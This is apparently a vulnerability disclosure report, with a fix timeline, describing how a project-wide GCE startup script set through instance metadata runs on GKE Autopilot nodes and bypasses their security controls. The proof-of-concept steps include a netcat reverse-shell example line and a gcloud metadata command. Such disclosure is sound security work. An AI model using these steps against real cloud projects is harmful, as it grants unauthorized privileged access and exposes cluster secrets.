Vulnerability Details

GKE Autopilot provides many default security controls to protect the node, including protections against privileged pods and limitations on hostPath volume mounts.

The Autopilot nodes do not have a startup-script defined in their instance metadata. As documented here, a user with compute.projects.setCommonInstanceMetadata can set a project-wide startup script. Since the nodes do not have this attribute set, they will use the project-wide attribute and allow arbitrary code execution from the startup-script. To demonstrate:

  1. Create a script with your desired code (e.g. nc -e /bin/sh 4444) and save as
  2. Set project-wide startup-script
gcloud compute project-info add-metadata --metadata-from-file
  1. Create an autopilot cluster and observe that the startup-script executes when the nodes boot.

Attack Scenario

The Autopilot documentation describes the motivation for its security controls as:

In order for GKE to offer management of the nodes and provide you with a more streamlined operational experience, there are a few restrictions and limitations when compared to GKE Standard. Some of these limitations are security best practices, while others allow Autopilot clusters to be safely managed.

A userwith the compute.projects.setCommonInstanceMetadata permissions in the project could bypass the security controls in the cluster and gain privileged access to the managed Kubernetes nodes. Using this access, they could read all secrets in the cluster (including those outside their provisioned access) or explore the attack surface of the Autopilot control plane.


  • 2021-03-01: Initial report to Google VRP
  • 2021-03-01: Issue triaged
  • 2021-03-04: Internal bug report filed
  • 2021-03-05: Additional variants reported (vrp/181521559b, vrp/181521559c)
  • 2021-03-09: Internal bug reportupdated
  • 2021-04-01: Additional variant reported (vrp/181521559d)
  • 2021-04-06: Internal bug report updated
  • 2021-04-08: VRP issued reward ($1337 per variant)
  • 2021-06-07: Issue reported fixed
  • 2021-09-10: Retested and verified only variant “a” is fixed
  • 2021-09-11: Issue reopened